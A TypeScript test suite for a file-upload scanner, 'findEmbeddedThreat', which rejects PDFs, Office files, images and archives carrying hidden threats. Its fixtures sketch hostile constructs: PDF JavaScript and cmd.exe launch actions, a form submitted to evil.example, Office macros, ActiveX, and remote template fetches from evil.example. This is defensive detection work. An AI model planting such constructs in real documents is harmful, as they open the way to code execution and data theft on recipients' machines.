import { CFB } from "@e965/xlsx";
import { gzipSync, strToU8, zipSync } from "fflate";
import { describe, expect, it } from "vitest";
import { PIXEL_PNG } from "@/tests/support/api/pixel-png";
import {
	DISGUISED_LINKS,
	docxWith,
	linksOf,
	linkToTemplate,
	pdfStream,
	pdfWith,
	pngOfSize,
	SCRIPT_ACTION,
	UNCLEAR_LINKS,
} from "@/tests/support/files/hostile-files";
import { makeOldWorkbook } from "@/tests/support/portal/old-workbook";
import { findEmbeddedThreat } from "./find-embedded-threat";

const bytesOf = (text: string) => new TextEncoder().encode(text);
const threatOf = (name: string, bytes: Uint8Array<ArrayBuffer>, type = "") =>
	findEmbeddedThreat({ name, type, bytes });

/** A compound file with these streams, as programs of before 2007 wrote them. */
function compoundOf(streams: Record<string, Uint8Array>): Uint8Array<ArrayBuffer> {
	const file = CFB.utils.cfb_new();
	for (const [name, content] of Object.entries(streams)) CFB.utils.cfb_add(file, `/${name}`, content);
	return new Uint8Array(CFB.write(file, { type: "array" }) as ArrayLike<number>);
}
const FILLED = new Uint8Array(5_000).fill(7);
/** The record of a sheet of macros of Excel 4, called "m". */
const MACRO_SHEET = Uint8Array.from([0x85, 0, 9, 0, 0, 1, 0, 0, 0, 1, 1, 0, 0x6d]);

describe("a PDF", () => {
	const OBJECTS = "/Type/ObjStm/N 1/First 4";
	it.each<[string, Uint8Array<ArrayBuffer>, RegExp]>([
		["that runs a script", pdfWith(SCRIPT_ACTION), /contains a script/],
		["that hides the name of its script", pdfWith("<</S/J#61vaScr#69pt/JS(1)>>"), /contains a script/],
		["that starts a program", pdfWith("<</S/Launch/F(cmd.exe)>>"), /contains a script/],
		["with another file inside", pdfWith(pdfStream("/Type/EmbeddedFile", "MZ")), /contains a script/],
		["that sends its form", pdfWith("<</S/SubmitForm/F(http://evil.example)>>"), /contains a script/],
		["with a form that is a program", pdfWith("<</Fields[]/XFA 5 0 R>>"), /contains a script/],
		[
			"with a script among compressed objects",
			pdfWith(pdfStream(OBJECTS, `9 0 ${SCRIPT_ACTION}`)),
			/contains a script/,
		],
		[
			"with an object where a stream seems to be",
			pdfWith(`<</Length 3>>stream\nabc 8 0 obj${SCRIPT_ACTION}endobj endstream `),
			/contains a script/,
		],
		[
			"with objects that are encrypted",
			pdfWith(`<<${OBJECTS}/Filter/FlateDecode>>stream\n\x9a\x17#k endstream `),
			/cannot be checked/,
		],
		[
			"with objects in an unusual form",
			pdfWith(`<<${OBJECTS}/Filter/LZWDecode>>stream\n\x80\x0b endstream `),
			/cannot be checked/,
		],
		[
			"with objects in a stream that is not found",
			pdfWith(`<<${OBJECTS}>>%${" ".repeat(5_000)}\nstream\n9 0 endstream `),
			/cannot be checked/,
		],
	])("%s is refused", (_, pdf, reason) => {
		expect(threatOf("paper.pdf", pdf)).toMatch(reason);
	});

	it.each<[string, Uint8Array<ArrayBuffer>]>([
		["a plain one", pdfWith("<</S/GoTo/D[3 0 R/Fit]>>")],
		["one with compressed objects", pdfWith(pdfStream(OBJECTS, "9 0 <</Type/Annot>>"))],
		["one with names that only begin so", pdfWith("<</LaunchDate(1)/XFAction 1/JavaScriptFree true>>")],
		["one whose pages speak of scripts", pdfWith(pdfStream("", "BT (JavaScript and Launch) Tj ET"))],
	])("is taken: %s", (_, pdf) => {
		expect(threatOf("paper.pdf", pdf)).toBeNull();
	});
});

describe("an office document", () => {
	it.each<[string, string, Uint8Array<ArrayBuffer>, RegExp]>([
		["with macros", "a.docx", docxWith({ "word/vbaProject.bin": "x" }), /contains macros/],
		[
			"with macros under another name",
			"a.docx",
			docxWith(
				{ "word/printerSettings1.dat": "x" },
				'<Override ContentType="application/vnd.ms-office.vbaProject"/>',
			),
			/contains macros/,
		],
		["with another file", "a.docx", docxWith({ "word/embeddings/oleObject1.bin": "MZ" }), /contains macros/],
		[
			"with a page of a browser",
			"a.docx",
			docxWith({ "word/embeddings/a.html": "<script>" }),
			/contains macros/,
		],
		["with a control", "a.docx", docxWith({ "word/activeX/activeX1.xml": "x" }), /contains macros/],
		[
			"that fetches a template",
			"a.docx",
			docxWith(linkToTemplate("http://evil.example/a.dotm")),
			/contains macros/,
		],
		[
			"that fetches one from a share",
			"a.docx",
			docxWith(linkToTemplate("file://evil.example/a.dotm")),
			/contains macros/,
		],
		["that is an archive", "a.docx", new Uint8Array(zipSync({ "a.exe": strToU8("MZ") })), /does not match/],
		["of the other program", "a.xlsx", docxWith(), /does not match/],
		["that is broken", "a.docx", docxWith().slice(0, 60), /cannot be checked/],
		["with a password", "a.xls", compoundOf({ EncryptedPackage: FILLED }), /cannot be checked/],
		[
			"of before 2007 with macros",
			"a.doc",
			compoundOf({ WordDocument: FILLED, _VBA_PROJECT: FILLED }),
			/contains macros/,
		],
		[
			"of before 2007 with a file",
			"a.doc",
			compoundOf({ WordDocument: FILLED, "\u0001Ole10Native": FILLED }),
			/contains macros/,
		],
		[
			"with macros of Excel 4",
			"a.xls",
			compoundOf({ Workbook: new Uint8Array([...MACRO_SHEET, ...FILLED]) }),
			/contains macros/,
		],
		["that installs a program", "a.doc", compoundOf({ Property: FILLED }), /does not match/],
	])("%s is refused", (_, name, bytes, reason) => {
		expect(threatOf(name, bytes)).toMatch(reason);
	});

	it.each<[string, string, Uint8Array<ArrayBuffer>]>([
		["a plain one", "a.docx", docxWith()],
		["one with a chart", "a.docx", docxWith({ "word/embeddings/Microsoft_Excel_Sheet.xlsx": "x" })],
		[
			"one with the settings of a printer",
			"a.docx",
			docxWith({ "word/printerSettings/printerSettings1.bin": "x" }),
		],
		[
			"one of the company's template",
			"a.docx",
			docxWith(linkToTemplate("file:///C:\\Templates\\letter.dotx")),
		],
		["a document of before 2007", "a.doc", compoundOf({ WordDocument: FILLED })],
		["a workbook of before 2007", "a.xls", makeOldWorkbook([["Code"], ["A1"]])],
		["a table as an old system saves it", "a.xls", bytesOf("<table><tr><td>A1</td></tr></table>")],
	])("is taken: %s", (_, name, bytes) => {
		expect(threatOf(name, bytes)).toBeNull();
	});
});

describe("the links of an office document", () => {
	it.each(DISGUISED_LINKS)("are found %s", (_, links) => {
		expect(threatOf("a.docx", docxWith(linksOf(links)))).toMatch(/contains macros/);
	});

	it.each(UNCLEAR_LINKS)("are refused %s", (_, links) => {
		expect(threatOf("a.docx", docxWith(linksOf(links)))).toMatch(/cannot be checked/);
	});

	it.each<[string, string]>([
		[
			"to a page of the web",
			'<Relationship Type="x/hyperlink" Target="http://a/?b=1&amp;c=2" TargetMode="External"/>',
		],
		["to another part", '<Relationship Type="x/attachedTemplate" Target="a.xml" TargetMode="Internal" />'],
		["with a comment", "<!-- attachedTemplate External --><Relationship Id='r1'\n\tTarget='a.xml'\n/>"],
		[
			"with a declaration",
			'\ufeff<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<Relationships xmlns="a:b"></Relationships>',
		],
		["in thousands", '<Relationship Id="r" Target="a.xml"/>'.repeat(50_000)],
	])("are let through %s", (_, links) => {
		expect(threatOf("a.docx", docxWith(linksOf(links)))).toBeNull();
	});

	it("do not hide what a part is", () => {
		const hidden = '<Override ContentType="application/vnd.ms-office.vba&#80;roject"/>';
		expect(threatOf("a.docx", docxWith({}, hidden))).toMatch(/contains macros/);
	});
});

describe("a picture", () => {
	const webp = (chunk: string, data: readonly number[]) =>
		Uint8Array.from([...bytesOf("RIFF"), 30, 0, 0, 0, ...bytesOf(`WEBP${chunk}`), 10, 0, 0, 0, ...data]);
	const SOF = [0xff, 0xc2, 0, 11, 8, 0, 9, 0, 9, 1, 1, 0x11, 0];
	it.each<[string, string, Uint8Array<ArrayBuffer>]>([
		["of too many pixels", "a.png", pngOfSize(12_000, 12_000)],
		["of a long side", "a.png", pngOfSize(1, 20_000)],
		["of no pixels", "a.png", pngOfSize(0, 10)],
		["without a header", "a.png", PIXEL_PNG.slice(0, 12)],
		["without a frame", "a.jpg", Uint8Array.from([0xff, 0xd8, 0xff, 0xda, 0, 2, 1, 2])],
		["of bytes only", "a.bmp", Uint8Array.from([0x42, 0x4d, 0, 0, 1, 2])],
	])("%s is refused", (_, name, bytes) => {
		expect(threatOf(name, bytes)).toMatch(/too many pixels|cannot be shown/);
	});

	it.each<[string, Uint8Array<ArrayBuffer>]>([
		["a.png", PIXEL_PNG],
		["a.jpeg", Uint8Array.from([0xff, 0xd8, 0xff, 0xe0, 0, 3, 0, ...SOF])],
		["a.gif", Uint8Array.from([...bytesOf("GIF89a"), 9, 0, 9, 0])],
		[
			"a.bmp",
			Uint8Array.from([0x42, 0x4d, ...new Uint8Array(12), 40, 0, 0, 0, 9, 0, 0, 0, 0xf7, 0xff, 0xff, 0xff]),
		],
		["a.webp", webp("VP8X", [0, 0, 0, 0, 8, 0, 0, 8, 0, 0])],
		["a.webp", webp("VP8 ", [0, 0, 0, 0x9d, 0x01, 0x2a, 9, 0, 9, 0])],
		["a.webp", webp("VP8L", [0x2f, 8, 0, 2, 0])],
	])("%s is taken", (name, bytes) => {
		expect(threatOf(name, bytes)).toBeNull();
	});
});

describe("what a file is", () => {
	it.each<[string, Uint8Array<ArrayBuffer>, string, RegExp]>([
		["a.zip", new Uint8Array(zipSync({ "a.txt": strToU8("x") })), "", /Archives cannot/],
		["jobs.csv", new Uint8Array(gzipSync(strToU8("x"))), "", /Archives cannot/],
		["jobs.txt", new Uint8Array(zipSync({ "a.txt": strToU8("x") })), "", /Archives cannot/],
		["a.pdf", Uint8Array.from([...bytesOf("MZ"), 0x90, 0, 3, 0]), "", /Programs cannot/],
		["a.csv", Uint8Array.from([0x7f, ...bytesOf("ELF"), 2, 1]), "", /Programs cannot/],
		["a.png", pdfWith(), "", /does not match/],
		["a.pdf", PIXEL_PNG, "", /does not match/],
		["a.txt", Uint8Array.from([1, 0, 2]), "", /does not match/],
		["a.pdf", pdfWith(), "image/png", /does not match/],
		["a.txt", bytesOf("words"), "text/html", /does not match/],
		["a.html", bytesOf("<script>"), "", /cannot be attached/],
	])("decides about %s", (name, bytes, type, reason) => {
		expect(threatOf(name, bytes, type)).toMatch(reason);
	});

	it.each<[string, Uint8Array<ArrayBuffer>, string]>([
		["a.csv", bytesOf("a,b"), "application/vnd.ms-excel"],
		["a.csv", Uint8Array.from([0xff, 0xfe, 65, 0]), "text/csv; charset=utf-16"],
		["a.pdf", pdfWith(), "application/octet-stream"],
		["a.docx", docxWith(), "application/zip"],
		["MZ codes.txt", bytesOf("MZ 1, BM 2"), "text/plain"],
	])("lets %s pass", (name, bytes, type) => {
		expect(threatOf(name, bytes, type)).toBeNull();
	});
});
